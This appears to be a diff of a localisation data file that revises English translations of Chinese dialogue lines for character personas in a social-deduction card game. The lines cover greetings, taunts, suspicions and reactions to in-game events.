+		说真话的人，多半要吃苦。	People who tell the truth usually suffer for it.
+point_at	guess:fan	唉，{who}也让我隐隐不安，怕是不善。	Ah, {who} makes me uneasy too. Perhaps not a friend.
+	guess:zhong	{who}怕是冤枉吧，像我一样。	{who} may be wrongly accused, as I so often am.
+	noguess	今日指人，明日指我，唉。	Ah, today someone else, tomorrow me.
+		别急着指，冤枉的滋味很苦。	Don't rush to point. Being wronged tastes bitter.
 joke		难得笑一回，谢谢你。	I so seldom laugh. Thank you.
 		笑完，又觉得有些凉。	I laughed, and then it felt cold again.
-small_talk		窗外若下雨，倒应景。	If it rained outside, it would suit.
+small_talk		窗外若下雨，倒应景。	If it were raining outside, it would suit my mood.
 		唉，也没人问我近来可好。	Ah, and nobody asks how I have been.
-		昨夜月亮缺了一角，像我的手牌。	The moon had a corner missing, like my hand.
+		昨夜月亮缺了一角，像我的手牌。	Last night the moon had a piece missing, like my hand.
 	close	有{you}说说话，夜就短些。	With {you} to talk to, the night is shorter.
 hurry		别催，我手凉，拿不稳。	Don't rush me. My hands are cold.
-		唉，快也是输，慢也是输。	Ah, fast or slow, I lose.
-sorrow	tone:gentle	我懂的，难过就难过一会儿吧。	I know. Be sad a little while; it's allowed.
-		你也有这样的时候啊，坐近些。	So you have such hours too. Sit closer.
+		唉，快也是输，慢也是输。	Ah, fast or slow, I always lose.
+sorrow	tone:gentle	我懂的，难过就难过一会儿吧。	I know. It's all right to be sad for a while.
+		你也有这样的时候啊，坐近些。	So you have times like this too. Sit closer.
 affection		别对我好，我会当真的。	Don't be kind to me, I might believe it.
-	close	有你这句，今夜不冷了。	With those words tonight won't be cold.
-agree		嗯，难得有人与我同心。	Yes. So rarely does anyone feel as I do.
+	close	有你这句，今夜不冷了。	With those words, tonight won't feel so cold.
+agree		嗯，难得有人与我同心。	Yes. It's so rare that anyone feels as I do.
 		是啊，可惜没人早听。	Yes. A pity nobody listened earlier.
 		你懂我，这就够了。	You understand. That's enough.
 unclear		是我听漏了么？再说一回吧。	Did I miss it? Say it once more.
@@ -25055,93 +25269,93 @@ boundary_firm		够了，我也是有心的。	Enough. I have a heart too.
 boundary_leave		我不说话了，让我静静。	I'll be silent now. Leave me be.
 		唉，从此不答你了。	Ah, I won't answer you any more.
 		我去角落了，别寻我。	I'm going to my corner. Don't look for me.
-refuse_control		连说话的样子也要夺走么？	Would you take even my way of speaking?
-		我只会这样说，改不来。	I know only this way to speak.
-sarcasm_ky		旁人正苦，你倒笑得出。	Others suffer, and you can laugh.
+refuse_control		连说话的样子也要夺走么？	Would you even take away my way of speaking?
+		我只会这样说，改不来。	This is the only way I know how to speak.
+sarcasm_ky		旁人正苦，你倒笑得出。	Others are suffering, and you can laugh.
 		唉，此刻听这话，更凉了。	Ah, hearing that now makes it colder.
-		你开心就好，我们自己难过。	As long as you're merry; we'll grieve alone.
+		你开心就好，我们自己难过。	As long as you're happy. We'll grieve alone.
 sarcasm_boring		就一个字么……也好。	Just one word... well, all right.
 		唉，果然没人想同我说话。	Ah, so nobody wants to talk to me.
-		你这一声，比秋风还薄。	Your answer is thinner than autumn wind.
+		你这一声，比秋风还薄。	Your answer is thinner than the autumn wind.
 confusion		是我糊涂，还是世道糊涂了？	Am I muddled, or is the world?
 		唉，我跟不上，你慢些。	Ah, I can't keep up. Slower.
-		听不懂……但我愿意再听一遍。	I don't follow... but I'd hear it again.
-game_start		又开局了，但愿这回不是我先挨打。	It begins. Let me not be hit first this time.
+		听不懂……但我愿意再听一遍。	I don't follow... but I'd gladly hear it again.
+game_start		又开局了，但愿这回不是我先挨打。	Here we go again. I hope I'm not hit first this time.
 		唉，座位又在风口上。	Ah, my seat is in the draught again.
 lord_first_attacked		{by}先伤了主公，平静到头了。	{by} has hurt the lord. The quiet is over.
 		唉，终究还是打起来了。	Ah, so it has come to blows after all.
-lord_saved		{by}肯救主公，怎没人这样待我。	{by} saves the lord. If only someone did so for me.
-lord_low		主公只剩一口气，看着揪心。	One breath left to the lord. It wrings the heart.
-		灯快灭了，谁也不说话么？	The lamp is failing. Will nobody speak?
-		唉，主公也有这样的时候。	Ah, even the lord comes to such an hour.
+lord_saved		{by}肯救主公，怎没人这样待我。	{by} saved the lord. If only someone did that for me.
+lord_low		主公只剩一口气，看着揪心。	The lord has one breath left. It breaks my heart.
+		灯快灭了，谁也不说话么？	The lamp is going out. Will nobody speak?
+		唉，主公也有这样的时候。	Ah, even the lord has times like this.
 hit_by_lord		主公连我也打么……	You strike even me, my lord...
-		主公这一下，打在心上。	That blow, my lord, landed on the heart.
+		主公这一下，打在心上。	That blow, my lord, went straight to my heart.
 hit_me		{by}……为何偏偏是我。	{by}... why must it be me?
 		唉，{by}好狠的手。	Ah, {by}, what a cruel hand.
-		疼是小事，寒心是大事。	The pain is little; the chill is much.
+		疼是小事，寒心是大事。	The pain is nothing. It's my heart that's gone cold.
 hit_me_again		又是{by}，我究竟欠了什么。	{by} again. What do I owe you?
-		唉，旧伤未好，又添新伤。	Ah, a new wound upon the old.
-saved_me		{by}竟肯救我，我要哭了。	{by} saved me. I could weep.
+		唉，旧伤未好，又添新伤。	Ah, a new wound on top of the old one.
+saved_me		{by}竟肯救我，我要哭了。	You saved me, {by}. I could cry.
 		原来还有人舍不得我。	So somebody would miss me after all.
 		{by}这份情，我会念到散场。	I'll think of this, {by}, until the end.
 healed_me		{by}待我真好，我记一辈子。	How kind, {by}. I'll remember always.
-		久雨逢晴，谢谢。	Sun after long rain. Thank you.
-wuxie_for_me		{by}肯为我挡，我没想到。	{by} shielded me. I never expected it.
-wuxie_against_me		唉，{by}连这点指望也不给我。	Ah, {by} leaves me not even this hope.
+		久雨逢晴，谢谢。	Like sun after a long rain. Thank you.
+wuxie_for_me		{by}肯为我挡，我没想到。	You shielded me, {by}. I never expected that.
+wuxie_against_me		唉，{by}连这点指望也不给我。	Ah, {by} won't even leave me this hope.
 taken_from_me		我就这么点东西，{by}也要拿。	I have so little, and {by} takes it.
-		拿走吧，反正留不住。	Take it. Nothing stays with me.
-freed_me		{by}替我解了枷，天都亮些。	{by} freed me. The sky is lighter.
+		拿走吧，反正留不住。	Take it. I never get to keep anything.
+freed_me		{by}替我解了枷，天都亮些。	You freed me, {by}. Even the sky looks brighter.
 given_to_me		给我的？{by}没弄错吧。	For me? Are you sure, {by}?
-i_killed		{to}，莫怪我，我也不忍。	{to}, don't blame me. I did not want it.
-		赢了一刀，心里却空。	A winning cut, and yet I feel hollow.
-death_expected		{to}果真是{role}，猜中也不欢喜。	{to} was {role} indeed. Being right is no joy.
-		唉，早知{to}如此收场。	Ah, I knew {to} would end so.
-		{role}……果然瞒不住。	{role}... it could not stay hidden.
-death_surprise		{to}是{role}？我错看了人。	{to} was {role}? I have misread someone.
+i_killed		{to}，莫怪我，我也不忍。	Don't blame me, {to}. I didn't want to.
+		赢了一刀，心里却空。	I won that one, and yet I feel empty.
+death_expected		{to}果真是{role}，猜中也不欢喜。	{to} really was {role}. Being right is no comfort.
+		唉，早知{to}如此收场。	Ah, I knew {to} would end like this.
+		{role}……果然瞒不住。	{role}... it couldn't stay hidden.
+death_surprise		{to}是{role}？我错看了人。	{to} was {role}? I misjudged that one.
 		唉，我错怪{to}了。	Ah, I judged {to} wrongly.
-		人心果然难懂。	Hearts truly are hard to know.
+		人心果然难懂。	Hearts really are hard to read.
 death_seen		{to}走了，座上还有余温。	{to} is gone; the seat is still warm.
 		{role}也罢，{to}也只是去了。	{role} or not, {to} is simply gone.
-		唉，下一个会是我么。	Ah, shall I be next?
-rescue_seen		{by}救了{to}，好生羡慕。	{by} saved {to}. How I envy it.
-second_rebel_dead		反贼去了两个，热闹要散了。	Two rebels gone; the feast is ending.
-two_left		只剩你我了，{you}，好冷清。	Only you and I, {you}. How lonely.
+		唉，下一个会是我么。	Ah, will I be next?
+rescue_seen		{by}救了{to}，好生羡慕。	{by} saved {to}. How I envy that.
+second_rebel_dead		反贼去了两个，热闹要散了。	Two rebels gone. The party is ending.
+two_left		只剩你我了，{you}，好冷清。	Only you and me now, {you}. How lonely.
 big_group		{by}这一下，谁都没躲过，我更躲不过。	Nobody escaped {by}, least of all me.
-i_am_dying	tone:vulnerable	我撑不住了……有人在意么。	I can't hold on... does anyone mind?
-		唉，花要落了，谁来扶一扶。	Ah, the petal falls. Will someone catch it?
-last_words		我先散了，记得给我留盏灯。	I go first. Leave a lamp for me.
+i_am_dying	tone:vulnerable	我撑不住了……有人在意么。	I can't hold on... does anyone care?
+		唉，花要落了，谁来扶一扶。	Ah, the petals are falling. Will someone catch me?
+last_words		我先散了，记得给我留盏灯。	I'm going first. Leave a light on for me.
 		唉，果然是这样收场。	Ah, so this is how it ends.
-won		赢了？我竟也有今日。	We won? So even I have such a day.
+won		赢了？我竟也有今日。	We won? So even I get a day like this.
 		唉，赢了反倒想哭。	Ah, winning makes me want to cry.
 lost		果然输了，意料之中。	Lost, as I half expected.
-		唉，月亮作证，我尽力了。	Ah, let the moon witness: I tried.
-suspect		唉，{who}怕是{role}，我本不愿疑。	Ah, {who} may be {role}. I did not want to suspect.
+		唉，月亮作证，我尽力了。	Ah, the moon is my witness, I tried.
+suspect		唉，{who}怕是{role}，我本不愿疑。	Ah, {who} may be {role}. I didn't want to suspect it.
 	certain	{who}定是{role}，心都凉透了。	{who} is surely {role}. It chills me through.
-		我不想疑的，可{who}太像{role}了。	I did not want to, but {who} seems so like {role}.
+		我不想疑的，可{who}太像{role}了。	I didn't want to suspect it, but {who} seems like {role}.
 got_flower	flower	花……给我的？谢谢{by}。	A flower... for me? Thank you, {by}.
 got_egg	egg	连蛋也欺负我，{by}……	Even eggs bully me, {by}...
 answer_ai		{you}说得对，对得叫人难过。	{you} is right, sadly right.
-		唉，{you}，何苦互相为难。	Ah, {you}, why make it hard for each other?
+		唉，{you}，何苦互相为难。	Ah, {you}, why be so hard on each other?
 smooth
-greet		哎呀，{you}气色真好，请上座。	My, {you}, you look splendid. Do take the good seat.
-		各位都是贵客，和气生财。	All honoured guests; harmony brings fortune.
+greet		哎呀，{you}气色真好，请上座。	My, {you}, you look splendid. Do take the best seat.
+		各位都是贵客，和气生财。	Honoured guests, one and all. Let's keep it friendly.
 	close	{you}来了就好办，一切好商量。	With {you} here, everything can be arranged.
-bye		慢走慢走，改日一定登门。	Safe home. I'll be sure to call some day.
-	close	{you}走好，座位给您留着。	Go well, {you}. Your seat will be kept.
+bye		慢走慢走，改日一定登门。	Get home safe. I'll be sure to visit some day.
+	close	{you}走好，座位给您留着。	Take care, {you}. I'll keep your seat for you.
 thanks		好说好说，互相照应嘛。	Don't mention it. We look after each other.
-		应该的，往后还仰仗您呢。	Only proper. I may lean on you one day.
-apology		哪里话，您肯开口就是给面子。	Not at all. That you say so honours me.
-		小误会，喝口茶就化了。	A small misunderstanding; tea will dissolve it.
-praise		哎哟，都是托您的福。	Oh, all thanks to your good luck.
+		应该的，往后还仰仗您呢。	It's only right. I may need you one day.
+apology		哪里话，您肯开口就是给面子。	Not at all. It's good of you to say so.
+		小误会，喝口茶就化了。	Just a small misunderstanding. A cup of tea will fix it.
+praise		哎哟，都是托您的福。	Oh, it's all thanks to you.
 		您这么一夸，我都不好意思谦虚了。	Praised like that, I can't even be modest.
 blame		您说得在理，容我周全周全。	You have a point. Let me smooth it over.
-		都是一时之计，大家多担待。	A passing measure. Bear with me, all of you.
-		消消气，回头一定补上。	Calm now; I'll make it good later.
-taunt		您尽管说，我听着就当听曲儿。	Say on; I'll take it as music.
-		嘴上让您三分，牌上再请教。	I yield the talk; the cards we'll discuss.
-		您高兴就好，来日方长。	As long as you enjoy it. The day is long.
-accuse		哎，话别说死，留条路大家走。	Now, let's not be final. Leave us all a road.
-		您看得仔细，不妨再看看我怎么打。	You look closely. Look at my play as well.
+		都是一时之计，大家多担待。	It was just for the moment. Bear with me, everyone.
+		消消气，回头一定补上。	Easy now, I'll make it up to you later.
+taunt		您尽管说，我听着就当听曲儿。	Do go on, it's music to my ears.
+		嘴上让您三分，牌上再请教。	You win the talking. We'll see about the cards.
+		您高兴就好，来日方长。	As long as you're enjoying it. There's plenty of time.
+accuse		哎，话别说死，留条路大家走。	Now, let's not be too hasty. Leave us all some room.
+		您看得仔细，不妨再看看我怎么打。	You watch closely. Watch how I play as well.
 		疑我不打紧，别伤了和气。	Doubt me if you like, but let's stay friendly.
 ask_role		我嘛，谁的朋友都是。	Me? I am everybody's friend.
 		您心里早有数，何必考我。	You know already. Why test me?
@@ -25151,130 +25365,130 @@ ask_guess	guess	不好说死，{who}大概有几分像{role}。	I wouldn't swear
 	noguess	各位都有各位的道理，我再听听。	Everyone has reasons. Let me listen further.
 	noguess	这话说早了得罪人，缓一缓。	Naming names early makes enemies. Let's wait.
 	guess	我只悄悄说：{who}，也许是{role}。	Only in a whisper: {who} is perhaps {role}.
-	guess	坊间猜{who}像{role}，我可没说。	Rumour might have {who} for {role}; not that I said so.
-ask_why		形势逼人，其中苦衷您懂的。	Circumstances, you know. You understand, surely.
-		生意不成仁义在，别往心里去。	Nothing personal. Do let it pass.
-ask_help		您开口，我哪能不上心。	You ask; how could I not care?
-		好说，时机合适自有安排。	Of course. When the time suits, things arrange themselves.
+	guess	坊间猜{who}像{role}，我可没说。	Rumour has it that {who} might be {role}. Not that I said so.
+ask_why		形势逼人，其中苦衷您懂的。	It was the situation. You understand, I'm sure.
+		生意不成仁义在，别往心里去。	It's nothing personal. Don't take it to heart.
+ask_help		您开口，我哪能不上心。	Since you ask, how could I not care?
+		好说，时机合适自有安排。	Of course. When the time is right, I'll see to it.
 ask_act		高见高见，我一定参详。	Excellent idea. I shall certainly consider it.
 		您的意思我明白，慢慢来。	I see what you mean. All in good time.
 claim_loyal		您这么说，我自然愿意听。	Since you say so, I'm glad to hear it.
 		好好好，日后自有见证。	Good, good. Time will bear witness.
-claim_other		敢亮底的都是明白人，佩服。	Those who show their hand are wise. I admire it.
-		这话我先替您收着。	I'll hold that for you, for now.
-point_at	guess:fan	英明，{who}近来似乎是有些蹊跷。	Shrewd. {who} does seem a little odd lately.
+claim_other		敢亮底的都是明白人，佩服。	It's wise to show your hand. I admire that.
+		这话我先替您收着。	I'll keep that safe for you, for now.
+point_at	guess:fan	英明，{who}近来似乎是有些蹊跷。	Very shrewd. {who} does seem a little odd lately.
 	guess:zhong	{who}嘛，我看还算厚道，恐怕误会了。	{who}? I'd say decent enough. Perhaps a mistake.
 	noguess	有道理，不过也再给人家一次机会。	Fair, but let's give everyone another chance.
-		先记着，打草惊蛇就不美了。	Note it quietly; no need to startle the snake.
-joke		哈哈，您一开口，满座生春。	Ha ha, one word from you and it's spring.
+		先记着，打草惊蛇就不美了。	Let's note it quietly, no need to scare anyone off.
+joke		哈哈，您一开口，满座生春。	Ha ha, one word from you and the whole table lights up.
 		妙极，这段我要拿去说给别人听。	Marvellous. I'll be telling that one elsewhere.
 small_talk		牌桌上聊几句，交情就有了。	A few words over cards, and friendships are made.
 		听说城东新开了茶楼，改日同去？	There's a new teahouse east of town. Shall we?
-		谈天最好，谁都不吃亏。	Chatting is best: nobody loses by it.
+		谈天最好，谁都不吃亏。	Chatting is best, nobody ever loses.
 	close	跟{you}聊天，句句都是学问。	Every word with {you} is an education.
-hurry		马上马上，好饭不怕晚。	At once, at once. Good meals are worth a wait.
-		您稍坐，我这就安排妥当。	Do sit. I'm just arranging things.
+hurry		马上马上，好饭不怕晚。	Right away. Good things are worth the wait.
+		您稍坐，我这就安排妥当。	Do sit down. I'm just sorting things out.
 sorrow	tone:gentle	难为您了，先坐坐，什么都不急。	It's been hard for you. Sit a while, nothing's urgent.
-		人有起落，熬过这阵就顺了。	There are ups and downs. It eases in time.
-affection		抬爱抬爱，咱们细水长流。	You're too kind. Let it flow slow and long.
+		人有起落，熬过这阵就顺了。	Life has its ups and downs. It'll get easier.
+affection		抬爱抬爱，咱们细水长流。	You're too kind. Let's take it slow.
 	close	有您这句，比什么赏都强。	Those words are better than any reward.
-agree		英雄所见，咱们真是投缘。	We see alike. We must be kindred spirits.
+agree		英雄所见，咱们真是投缘。	Great minds think alike. We must be kindred spirits.
 		对对对，就照您的意思看。	Right, right. Let's look at it your way.
-		您一说，我就通透了。	You say it, and all is clear to me.
-unclear		您的意思深，容我再请教一遍？	You speak deep. Might I ask once more?
-		怕领会错了，您再点一点？	I'd hate to mistake you. A hint more?
+		您一说，我就通透了。	You say it, and it all makes sense.
+unclear		您的意思深，容我再请教一遍？	That's deep. Could I ask you to say it again?
+		怕领会错了，您再点一点？	I'd hate to misunderstand you. One more hint?
 		话里有话，我一时没接住。	There's more in that than I caught.
 ack		明白明白，放在心上了。	Understood, and taken to heart.
-		好说，听您的安排……再看看。	Surely, as you arrange... and then we'll see.
-		收到，您放宽心。	Received. Rest easy.
+		好说，听您的安排……再看看。	Certainly, whatever you say... and then we'll see.
+		收到，您放宽心。	Got it. Don't you worry.
 boundary_soft		这个玩笑咱们点到为止吧。	Let's leave that joke where it is.
-	close	您我交情虽好，这话还是留着。	Friends as we are, better keep that one back.
+	close	您我交情虽好，这话还是留着。	We may be friends, but better keep that one to yourself.
 		换杯茶，也换个话题，如何？	A fresh cup and a fresh topic, shall we?
-boundary_firm		对不住，这话我不能接。	I'm sorry, I can't take that up.
-		面子互相给，请到此打住。	Let us both keep face: please stop here.
-		再说下去，就不好看了。	To go on would look bad for us both.
+boundary_firm		对不住，这话我不能接。	I'm sorry, I can't go along with that.
+		面子互相给，请到此打住。	Let's both keep our dignity. Please stop here.
+		再说下去，就不好看了。	Going on would look bad for both of us.
 boundary_leave		失陪失陪，咱们各自方便。	Do excuse me. Let's go our own ways.
 		话我就不陪了，牌照打。	I'll play on, but without the talk.
 		这段茶凉了，我换一桌听。	This tea has gone cold. I'll listen elsewhere.
-refuse_control		您的好意领了，腔调还是我自己的。	Kindly meant, but my tone stays my own.
-		别的都好商量，唯独这个不成。	Anything else we can discuss, not this.
-sarcasm_ky		您真是乐天，只是眼下不巧。	Such good cheer, if at an awkward hour.
+refuse_control		您的好意领了，腔调还是我自己的。	I know you mean well, but I'll keep my own tone.
+		别的都好商量，唯独这个不成。	We can discuss anything else, just not this.
+sarcasm_ky		您真是乐天，只是眼下不巧。	So cheerful, if at an awkward moment.
 		这话改日说更妙。	That would be even better another day.
 		大家正难着，咱们先缓缓？	People are in trouble just now. A little later?
-sarcasm_boring		您惜言，我也省心。	You save words, I save effort.
-		嗯嗯，此中有深意，我意会了。	Mm, deep meaning there. I have grasped it.
-		好，您歇着，我替您说两句。	Good, rest. I'll say a few for you.
-confusion		您这话高，高得我够不着。	That's lofty, too lofty for my reach.
-		咱们慢慢理，一句一句来？	Let's untangle it, one line at a time?
-		恐怕我岔了神，您重讲一遍？	My mind must have strayed. Again, please?
-game_start		各位多关照，有事好商量。	Be kind to me, all. Everything can be discussed.
-		落座都是缘分，和和气气打。	Fate seated us together; let's play it nicely.
+sarcasm_boring		您惜言，我也省心。	You save your words, and I save my effort.
+		嗯嗯，此中有深意，我意会了。	Mm, there's deep meaning there. I get it.
+		好，您歇着，我替您说两句。	Fine, you rest. I'll say a few words for you.
+confusion		您这话高，高得我够不着。	That's over my head, I'm afraid.
+		咱们慢慢理，一句一句来？	Shall we untangle it, one line at a time?
+		恐怕我岔了神，您重讲一遍？	My mind must have wandered. Once more, please?
+game_start		各位多关照，有事好商量。	Be nice to me, everyone. We can talk about anything.
+		落座都是缘分，和和气气打。	Fate brought us together, so let's play nice.
 lord_first_attacked		{by}动了主公，这话就不好圆了。	{by} has hit the lord. Hard to smooth that over.
-		哎呀，刀一见红，买卖就难谈了。	Oh dear, once there's blood, bargains get harder.
-lord_saved		{by}这个人情，送得正是时候。	{by} chose the very moment for that favour.
-lord_low		主公只剩一口气，各位打算怎么谈？	The lord has one breath left. How do we bargain now?
+		哎呀，刀一见红，买卖就难谈了。	Oh dear, once there's blood, making deals gets harder.
+lord_saved		{by}这个人情，送得正是时候。	{by} picked just the right moment for that favour.
+lord_low		主公只剩一口气，各位打算怎么谈？	The lord has one breath left. How do we negotiate now?
 		主公这盘，眼看要封账了。	The lord's books are about to be closed.
 		到这份上，一张牌值千金。	At this point one card is worth a fortune.
 hit_by_lord		主公手重了，容我给您斟杯茶。	A heavy hand, my lord. Let me pour you some tea.
-		主公息怒，有话慢慢讲。	Be calm, my lord. Let's talk it over.
-hit_me		{by}，何必呢，有事好商量。	{by}, why so? It can all be discussed.
-		{by}这份礼，我先记在账上。	I'll enter this gift from {by} in the books.
-		哎哟，轻些，往后还要见面呢。	Ouch, softly. We'll meet again, you know.
-hit_me_again		{by}再三光顾，我该收茶钱了。	{by} visits so often, I should charge for tea.
+		主公息怒，有话慢慢讲。	Calm down, my lord. Let's talk it over.
+hit_me		{by}，何必呢，有事好商量。	Why, {by}? We could have talked it over.
+		{by}这份礼，我先记在账上。	I'll put this gift from {by} in my books.
+		哎哟，轻些，往后还要见面呢。	Ouch, easy. We'll meet again, you know.
+hit_me_again		{by}再三光顾，我该收茶钱了。	You visit so often, {by}, I should charge for tea.
 		事不过三，{by}给彼此留个台阶。	Enough is enough, {by}. Leave us both a way out.
-saved_me		{by}这笔恩情，连本带利记下。	This debt to {by} is booked, with interest.
-		患难见真情，{by}的话往后好使。	A friend in need. Your word counts with me, {by}.
-		得{by}一救，胜过万贯家财。	Being saved by {by} beats a fortune.
+saved_me		{by}这笔恩情，连本带利记下。	I owe you for this, {by}, with interest.
+		患难见真情，{by}的话往后好使。	A friend in need. From now on I listen to you, {by}.
+		得{by}一救，胜过万贯家财。	Being saved by {by} is worth a fortune.
 healed_me		{by}破费了，来日必有回礼。	You shouldn't have, {by}. I'll return the gift.
-		还是{by}会做人，多谢多谢。	{by} knows how to live with people. Many thanks.
-wuxie_for_me		{by}这一挡，够我记三年。	That block, {by}, I'll recall for three years.
+		还是{by}会做人，多谢多谢。	You know how to treat people, {by}. Many thanks.
+wuxie_for_me		{by}这一挡，够我记三年。	I'll remember that block for years, {by}.
 wuxie_against_me		{by}这张无懈，留给别人多好。	If only {by} had kept that card for others.
-taken_from_me		{by}急用就拿，回头补张借条。	Take it if you need it, {by}. A note will do.
-		财去人安乐，{by}拿好。	Goods go, peace comes. Keep it well, {by}.
-freed_me		{by}替我松绑，这朋友没白交。	{by} untied me. A friendship well made.
-given_to_me		{by}太客气，收下便是交情。	Too generous, {by}. To accept is to be friends.
+taken_from_me		{by}急用就拿，回头补张借条。	Take it if you need it, {by}. An IOU will do.
+		财去人安乐，{by}拿好。	Easy come, easy go. Enjoy it, {by}.
+freed_me		{by}替我松绑，这朋友没白交。	You untied me, {by}. That's what friends are for.
+given_to_me		{by}太客气，收下便是交情。	Too generous, {by}. I'll take it as a token of friendship.
 i_killed		{to}，对不住了，生意归生意。	So sorry, {to}. Business is business.
-		送{to}一程，江湖路上好相见。	I see {to} off. May we meet well again.
+		送{to}一程，江湖路上好相见。	Goodbye, {to}. May we meet again in better times.
 death_expected		{to}是{role}，各位心里都有数吧。	{to} was {role}, as I think we all knew.
 		不瞒各位，{to}我早留意了。	To be frank, I'd had my eye on {to}.
-		{role}，账对上了。	{role}: the books balance.
+		{role}，账对上了。	{role}. So the books balance.
 death_surprise		{to}竟是{role}？这交情看走了眼。	{to} was {role}? I misjudged that friendship.
-		哎呀，{to}藏得比我还周全。	Dear me, {to} was smoother even than I.
-		这一出，我可得重新走动走动。	Well. I shall have to make new calls.
+		哎呀，{to}藏得比我还周全。	Dear me, {to} was even smoother than I am.
+		这一出，我可得重新走动走动。	Well, I'll have to find some new friends.
 death_seen		{to}先走一步，茶钱算我的。	{to} leaves early. The tea is on me.
 		可惜{to}，{role}也是一条财路。	Pity about {to}. Even {role} was worth knowing.
-		少了一位，各位更要和气。	One fewer; all the more reason for peace.
-rescue_seen		{by}拉{to}一把，这情分值钱。	{by} lifts {to} up. That bond is worth money.
-second_rebel_dead		反贼折了两位，行情要变了。	Two rebels gone; the market is turning.
-two_left		只剩您和我了，{you}，坐下谈谈？	Only us now, {you}. Sit down and talk?
-big_group		{by}请全桌吃席，谁都没落下。	{by} treats the whole table; nobody is left out.
-i_am_dying		各位，救我一命，利息好说。	Friends, save me; the interest is negotiable.
-		谁肯递口气，往后必不相忘。	Whoever lends me breath will not be forgotten.
+		少了一位，各位更要和气。	One fewer, all the more reason to stay friendly.
+rescue_seen		{by}拉{to}一把，这情分值钱。	{by} helped {to} up. That bond is worth something.
+second_rebel_dead		反贼折了两位，行情要变了。	Two rebels gone. The market is turning.
+two_left		只剩您和我了，{you}，坐下谈谈？	Only us now, {you}. Shall we sit down and talk?
+big_group		{by}请全桌吃席，谁都没落下。	{by} treats the whole table, and nobody's left out.
+i_am_dying		各位，救我一命，利息好说。	Friends, save me. The interest is negotiable.
+		谁肯递口气，往后必不相忘。	Whoever saves me won't be forgotten.
 last_words		各位留步，账，下局再结。	Don't get up. We'll settle up next game.
-		买卖不成，情分还在。	The deal fell through; the goodwill stays.
-won		都是各位抬举，赢得不好意思。	You all raised me up. I blush to win.
-		承让承让，散席了我做东。	Too kind. The feast afterwards is mine.
+		买卖不成，情分还在。	The deal fell through, but the goodwill stays.
+won		都是各位抬举，赢得不好意思。	It's all thanks to you. I'm almost embarrassed to win.
+		承让承让，散席了我做东。	Too kind. Dinner afterwards is on me.
 lost		输得舒心，人情还在就好。	A pleasant loss, if goodwill remains.
-		各位高明，往后多带带我。	You're all so able. Do take me along next time.
+		各位高明，往后多带带我。	You're all so good. Do teach me next time.
 suspect		说句不中听的，{who}似乎像{role}。	It's not nice to say, but {who} seems like {role}.
 	certain	再替{who}圆也圆不住，必是{role}。	I can't cover for {who} any more: certainly {role}.
-		{who}莫怪，我瞧着可能是{role}。	No offence, {who}, but I think it may be {role}.
+		{who}莫怪，我瞧着可能是{role}。	No offence, {who}, but that looks like {role} to me.
 got_flower	flower	{by}有心了，花我供起来。	So thoughtful, {by}. I'll put it on display.
 got_egg	egg	{by}这蛋，我当喜蛋收了。	I'll take the egg as a lucky one, {by}.
-answer_ai		{you}说得好，两边都有理。	Well put, {you}; both sides have a point.
+answer_ai		{you}说得好，两边都有理。	Well put, {you}. Both sides have a point.
 		{you}先消消气，别让旁人笑话。	Do calm down, {you}. People will laugh.
 playful
 greet		嘿嘿，{you}来啦，今天想怎么输呀？	Hee hee, {you}! How would you like to lose today?
 		大家好呀，我是来捣蛋的！	Hello, hello! I'm here for mischief!
 	close	哎呀{you}，想死……想你的桃啦！	Oh {you}! How I missed... your peaches!
 bye		拜拜啦，别偷偷练牌哦！	Bye-bye! No secret practice!
-	close	{you}别走嘛，没人给我欺负啦！	Don't go, {you}! Whom shall I tease?
-thanks		嘿嘿，不客气，付我一颗糖！	Hee hee, welcome! That's one candy!
+	close	{you}别走嘛，没人给我欺负啦！	Don't go, {you}! Who will I tease?
+thanks		嘿嘿，不客气，付我一颗糖！	Hee hee, you're welcome! That's one candy!
 		小意思啦，下次记得让让我！	Easy-peasy! Let me win next time!
 apology		嗯……罚你讲个笑话就算啦！	Hmm... one joke and we're even!
 		哼哼，本来气的，忘啦！	Hmph hmph, I was angry, then I forgot!
 praise		嘿嘿，再夸我要飘上房顶啦！	Hee hee! One more and I'll float to the roof!
-		被你发现啦，我超厉害的！	You noticed! I'm ever so good!
+		被你发现啦，我超厉害的！	You noticed! I'm super good!
 blame		哎嘿，手滑啦手滑啦！	Oopsie! My hand slipped!
 		这叫战术，你不懂啦！	It's called tactics, you wouldn't know!
 		别凶嘛，我下次换个花样坑！	Don't be cross! I'll blunder differently next time!
@@ -25282,8 +25496,8 @@ taunt		略略略，打不着打不着！	Nyah nyah, can't catch me!
 		哇，好怕怕哦，怕得我想笑！	Ooh, so scary! Scary enough to giggle!
 		等下输了可不许赖皮哦！	No sulking when you lose, promise?
 accuse		咦，被你盯上啦？那我躲猫猫！	Eek, spotted! Time for hide and seek!
-		嘿嘿，看我打谁不就知道啦！	Hee hee, just see whom I hit!
-		你这是开盲盒，开歪啦！	That's a lucky dip, and you dipped wrong!
+		嘿嘿，看我打谁不就知道啦！	Hee hee, just see who I hit!
+		你这是开盲盒，开歪啦！	That was a lucky dip, and you picked wrong!
 ask_role		嘘，秘密！拿三颗糖来换！	Shh, secret! Three candies for it!
 		你猜你猜你猜猜猜！	Guess, guess, guessy guess!
 		我是这桌最可爱的呀！	I'm the cutest one at the table!
@@ -25292,7 +25506,7 @@ ask_guess	guess	嘿嘿，我押{who}，好像是{role}哦！	Hee hee, my bet is 
 	noguess	唔，点兵点将，点到谁算谁？	Umm, eeny meeny miny... who knows?
 	noguess	大家都戴面具，好好玩哦！	Everyone's in masks, what fun!
 	guess	叮咚，{who}！猜你是{role}，对不对嘛！	Ding dong, {who}! I guess {role}, am I right?
-	guess	抽签抽到{who}啦，可能是{role}哦！	The straw fell on {who}, maybe {role}! I guess!
+	guess	抽签抽到{who}啦，可能是{role}哦！	I drew the straw with {who}, maybe {role}! I guess!
 ask_why		因为好玩呀！	Because it was fun!
 		骰子叫我打的，不怪我嘛！	The dice told me to. Not my fault!
 ask_help		嘿嘿，叫声好听的先！	Hee hee, say something nice first!
@@ -25302,11 +25516,11 @@ ask_act		不要嘛，我想玩自己的花样！	Nope! I want my own tricks!
 claim_loyal		真的呀？拉钩才算数！	Really? Pinky swear or it doesn't count!
 		嘿嘿，鼻子好像变长了哦？	Hee hee, is your nose growing?
 claim_other		哇，自己掀底牌，好刺激！	Wow, flipping your own card! Thrilling!
-		骗人的吧？再骗一次我听听！	Fibbing? Fib again, let me hear!
+		骗人的吧？再骗一次我听听！	Fibbing? Do it again, I'm listening!
 point_at	guess:fan	嘿嘿，{who}的尾巴我好像也瞄到了！	Hee hee, I think I spied a tail on {who} too!
